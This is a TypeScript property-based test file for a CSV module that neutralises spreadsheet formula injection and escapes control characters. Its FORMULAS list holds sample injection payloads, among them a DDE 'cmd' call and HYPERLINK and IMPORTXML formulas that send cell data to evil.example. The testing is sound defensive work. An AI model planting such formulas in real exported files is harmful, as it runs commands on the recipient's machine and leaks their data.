import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRow, defuse, showControls, undoDefusing } from './csv.ts';
import { readCsv } from './testing/read-csv.ts';

/** What is known to run in one spreadsheet or another. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '-2+3+cmd|" /C calc"!D2',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tplain after a tab',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '"=1+1"',
  "'=1+1",
  '" =1+1',
  '“=1+1”',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];
const PLAIN = ['', 'api.corp.com', "it's fine", "'quoted'", '*.corp.com', '5-3', 'a=b', 'mara@corp.com', '{"a":"=1"}'];

const hostile = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .array(fc.constantFrom(...'=+-@\t\r\n"\' ,;|\u0000\u007f\u200b', 'a', '1'), { maxLength: 12 })
    .map((parts) => parts.join('')),
  fc.constantFrom(...FORMULAS, ...PLAIN),
);

describe('a cell of a CSV', () => {
  it.each(FORMULAS)('is run by no spreadsheet: %j', (formula) => {
    expect(defuse(formula)).toBe(`'${formula}`);
  });

  it.each(PLAIN)('is left as it is where nothing would run it: %j', (text) => {
    expect(defuse(text)).toBe(text);
  });

  it('begins, once defused, with nothing that a formula begins with', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(readCsv(csvRow([text]))[0]?.[0] ?? '').not.toMatch(/^[\s\u200b\ufeff"]*[=+\-@]/);
      }),
    );
  });

  it('is read back as it was, once the defusing is undone', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(undoDefusing(defuse(text))).toBe(text);
      }),
    );
  });

  it('shows control characters instead of having them', () => {
    expect(showControls('a\u0000b\u001bc\u007fd\u0085e\tf\r\n')).toBe('a\u2400b\u241bc\u2421d\ufffde\tf\r\n');
  });
});

describe('a row of a CSV', () => {
  it('is read back cell by cell, whatever they hold', () => {
    fc.assert(
      fc.property(fc.array(fc.array(hostile, { minLength: 2, maxLength: 6 }), { maxLength: 5 }), (rows) => {
        const read = readCsv(rows.map(csvRow).join('')).map((row) => row.map(undoDefusing));
        expect(read).toEqual(rows.map((row) => row.map(showControls)));
      }),
    );
  });

  it('quotes what holds a comma, a quote or a line end, and ends in CR LF', () => {
    expect(csvRow(['a,b', 'say "hi"', 'two\nlines', 'plain'])).toBe('"a,b","say ""hi""","two\nlines",plain\r\n');
  });
});
